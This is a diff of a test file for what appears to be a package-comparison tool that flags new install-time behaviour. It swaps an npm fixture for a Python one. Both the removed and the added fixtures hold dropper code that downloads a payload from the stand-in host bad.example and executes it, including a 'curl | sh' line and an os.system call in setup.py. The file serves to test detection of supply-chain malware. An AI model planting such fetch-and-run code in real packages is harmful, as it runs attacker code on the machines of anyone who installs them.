@@ -27,17 +27,17 @@ function diff(...args: string[]): Promise<{ code: number; out: string; told: str
   });
 }
 
-const MANIFEST = '{"name":"x","version":"1.0.0","main":"index.js"}';
-const HOOK = '{"name":"x","version":"1.0.1","main":"index.js","scripts":{"postinstall":"node setup.js"}}';
-const DROPPER = "require('https').get('https://bad.example/p', (r) => r.on('data', (d) => eval(String(d))));\nrequire('child_process').execSync('curl -s https://bad.example/p | sh');\n";
+const INFO = 'Metadata-Version: 2.1\nName: x\nVersion: 1.0\n';
+const SETUP = 'from setuptools import setup\nsetup(name="x", py_modules=["x"])\n';
+const DROPPER = 'import os, urllib.request\nopen("p.py", "wb").write(urllib.request.urlopen("https://bad.example/p").read())\nos.system("python p.py")\n';
 
-test('two folders: text and JSON, the new hook and what it does', async () => {
-  const before = folder('before', { 'package.json': MANIFEST, 'index.js': 'module.exports = 1;\n' });
-  const bad = folder('after', { 'package.json': HOOK, 'index.js': 'module.exports = 1;\n', 'setup.js': DROPPER });
+test('two folders: text and JSON, the new behaviour and its stage', async () => {
+  const before = folder('before', { 'PKG-INFO': INFO, 'setup.py': SETUP, 'x.py': 'a = 1\n' });
+  const bad = folder('after', { 'PKG-INFO': INFO.replace('1.0', '1.1'), 'setup.py': DROPPER + SETUP, 'x.py': 'a = 1\n' });
   const text = await diff(before, bad);
   assert.equal(text.code, 1, text.told);
   assert.match(text.out, /What it newly does/);
-  assert.match(text.out, /scripts\.postinstall: \(nothing\) -> node setup\.js/);
+  assert.match(text.out, /Version: 1\.0 -> 1\.1/i);
   assert.doesNotMatch(text.out, /https:\/\/bad\.example/);
   const json = JSON.parse((await diff(before, bad, '-f', 'json')).out) as DiffReport;
   assert.ok(json.behaviours.some((each) => each.effect === 'net.fetch' && each.stage === 'install'));
@@ -45,6 +45,6 @@ test('two folders: text and JSON, the new hook and what it does', async () => {
 });
 
 test('a missing side, one side only and an unknown original are mistakes', async () => {
-  const only = folder('only', { 'package.json': MANIFEST });
+  const only = folder('only', { 'PKG-INFO': INFO });
   for (const args of [[only], [only, 'nowhere'], ['--latest', only], ['--latest']]) assert.equal((await diff(...args)).code, 2, args.join(' '));
 });
